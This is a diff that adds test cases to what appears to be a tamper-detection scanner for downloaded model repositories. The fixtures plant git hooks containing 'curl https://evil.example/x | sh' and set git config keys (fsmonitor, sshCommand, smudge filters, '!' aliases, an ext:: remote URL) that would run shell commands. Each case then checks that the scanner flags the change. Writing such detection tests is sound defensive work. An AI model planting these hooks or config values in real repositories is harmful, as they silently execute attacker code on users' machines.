@@ -13,6 +13,7 @@ from dataclasses import dataclass
 from pathlib import Path
 
 from hub.access import Overview
+from hub.olah import run_git
 from hub.repository import Repository
 from support.command import run_command
 from tampering.places import FILES, INDEX, OLD_FILES, PAYLOAD, SHARDS, Place, hash_blob, hash_file
@@ -133,6 +134,32 @@ def lock_from_hub(place: Place) -> None:
     """Lock the repository of the model on the Hub."""
     done = run_command("lock", "acme/tiny", "-o", place.lock, "-q")
     assert done.returncode == 0, done.stderr
+
+
+def plant(name: str, content: bytes) -> Change:
+    """Return a change that locks the repository of the model on the Hub, and writes a file among the records."""
+    return lambda place: (lock_from_hub(place), write(place.root / name, content, 0o755))
+
+
+def add_work_tree(place: Place) -> Path:
+    """Check the commit out a second time, into the folder that is scanned then; ``.git`` is a file in it."""
+    place.git("worktree", "add", "--quiet", "--detach", "../tree")
+    place.target, place.root = str(place.beside / "tree"), place.beside / "tree"
+    return place.root
+
+
+def add_submodule(place: Place) -> Path:
+    """Scan a repository with the checkout as a submodule, and return the folder of that."""
+    outer = place.beside / "outer"
+    outer.mkdir()
+    run_git(outer, "init", "--quiet")
+    allowed = ("-c", "protocol.file.allow=always")
+    run_git(outer, *allowed, "submodule", "--quiet", "add", f"file://{place.root}", "model")
+    run_git(outer / "model", "lfs", "install", "--local")
+    run_git(outer / "model", "lfs", "pull")
+    run_git(outer, "commit", "--quiet", "--message", "one")
+    place.target, place.root = str(outer), outer
+    return outer / "model"
 
 
 def remove_records_and_change(place: Place) -> None:
@@ -572,6 +599,90 @@ GIT = [
         lambda at: write(at.root / "extra.py", EVIL),
         *(3, "  *extra.py", "verify"),
     ),
+]
+RECORDS = {
+    ".git/model.pkl": PAYLOAD,
+    ".git/objects/ab/" + "c" * 38: PAYLOAD,
+    ".git/refs/heads/x": EVIL,
+    ".git/info/attributes": b"*.json filter=x\n",
+    ".git/hooks/post-checkout": b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
+    ".git/modules/x/hooks/post-checkout": b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
+    ".git/worktrees/x/gitdir": EVIL,
+    ".git/COMMIT_EDITMSG": b"#!/bin/sh\n",
+}
+GIT += [
+    Case("git", f"lock it, and plant {name}", plant(name, content), 1, f"  added: {name}", "verify --lock")
+    for name, content in RECORDS.items()
+]
+GIT += [
+    Case(
+        *("git", "add code that git does not track"),
+        lambda at: write(at.root / "extra.py", EVIL),
+        *(1, "*/untracked-code extra.py"),
+        options=("--fail-on", "medium"),
+    ),
+    Case(
+        *("git", "add code that .gitignore names"),
+        lambda at: (write(at.root / ".gitignore", "*.pkl\n"), write(at.root / "x/y.pkl", PAYLOAD)),
+        *(1, "*/untracked-code x/y.pkl"),
+    ),
+    Case(
+        *("git", "replace code in a second work tree"),
+        lambda at: overwrite(add_work_tree(at) / CODE, EVIL),
+        *(1, f"*/checksum-mismatch {CODE}"),
+    ),
+    Case(
+        *("git", "change a shard in a second work tree"),
+        lambda at: flip(add_work_tree(at) / FIRST),
+        *(1, f"*/checksum-mismatch {FIRST}"),
+    ),
+    Case(
+        *("git", "lead a work tree to a repository of another"),
+        lambda at: write(add_work_tree(at) / ".git", f"gitdir: {at.root / '.git'}\n"),
+        *(3, "unverified-bytes .git"),
+    ),
+    Case(
+        *("git", "lead a work tree to nothing"),
+        lambda at: write(add_work_tree(at) / ".git", "gitdir: /nowhere\n"),
+        *(3, "unverified-bytes .git"),
+    ),
+    Case(
+        *("git", "replace code in a submodule"),
+        lambda at: overwrite(add_submodule(at) / CODE, EVIL),
+        *(1, f"*/checksum-mismatch model/{CODE}"),
+    ),
+]
+GIT += [
+    Case(
+        *("git", f"lock it, and set {key}"),
+        lambda at, key=key, value=value: (lock_from_hub(at), at.git("config", key, value)),  # type: ignore[misc]
+        *(1, "  added: .git/config", "verify --lock"),
+    )
+    for key, value in {
+        "core.hooksPath": "hooks",
+        "core.fsmonitor": "sh x.sh",
+        "core.sshCommand": "sh x.sh",
+        "filter.x.smudge": "sh x.sh",
+        "filter.lfs.smudge": "sh x.sh",
+        "alias.st": "!sh x.sh",
+        "include.path": "../settings",
+        "remote.origin.url": "ext::sh -c x",
+        "submodule.x.update": "!sh x.sh",
+    }.items()
+]
+LOCAL_DIR += [
+    Case(
+        *("local-dir", f"lock it, and plant {name}"),
+        plant(name, content),
+        *(1, f"  added: {name}", "verify --lock"),
+    )
+    for name, content in {
+        ".cache/huggingface/evil.py": EVIL,
+        f"{DOWNLOAD}/evil.py": EVIL,
+        f"{DOWNLOAD}/evil.py.metadata": EVIL,
+        f"{DOWNLOAD}/evil.lock": EVIL,
+        f".cache/huggingface/trees/{'a' * 40}.json": EVIL,
+    }.items()
 ]
 SIDECARS = [
     Case(
